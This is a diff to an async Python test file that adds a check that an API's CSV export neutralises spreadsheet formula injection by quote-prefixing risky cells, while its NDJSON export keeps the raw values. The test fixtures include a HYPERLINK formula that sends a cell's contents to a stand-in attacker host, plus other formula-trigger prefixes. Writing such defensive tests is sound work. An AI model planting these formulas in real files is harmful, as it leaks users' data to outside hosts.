@@ -99,7 +99,28 @@ async def test_csv_export_is_one_table_with_a_kind_column_and_parses_back(client
                                    "event_status")} for row in rows if row["kind"] == "event"]
     assert sorted(events, key=str) == sorted(expected["events"], key=str)
     assert {row["job_uuid"] for row in rows if row["kind"] == "job"} == {"job-a", "job-b"}
-    assert all(row["run_uuid"] == "" for row in rows if row["kind"] == "event")
+    assert {row["run_uuid"] for row in rows} == {"run-x"}
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)",
+            "\t=1+1", "\r=1+1"]
+
+
+async def test_csv_cells_a_spreadsheet_would_read_as_formulas_start_with_a_quote(client):
+    await post(client, "/api/jobs/", job_body("-job", "run-x", job_associated_agent="@agent"))
+    for n, content in enumerate([*FORMULAS, "plain", "a=b"]):
+        await post(client, "/api/events/", event_body(f"e{n}", "-job", event_content=content))
+    response = await client.get("/api/runs/run-x/export?format=csv")
+    rows = list(csv.DictReader(io.StringIO(await response.text(), newline="")))
+
+    job = next(row for row in rows if row["kind"] == "job")
+    assert (job["job_uuid"], job["job_associated_agent"]) == ("'-job", "'@agent")
+    contents = {row["event_content"] for row in rows if row["kind"] == "event"}
+    assert contents == {*("'" + formula for formula in FORMULAS), "plain", "a=b"}
+    assert {row["job_uuid"] for row in rows if row["kind"] == "event"} == {"'-job"}
+    # NDJSON is data for a program, not a spreadsheet: the values as stored.
+    lines = (await (await client.get("/api/runs/run-x/export")).text()).splitlines()
+    assert {json.loads(line).get("event_content") for line in lines} >= set(FORMULAS)
 
 
 async def test_export_of_an_unknown_run_is_a_404_json_error(client):
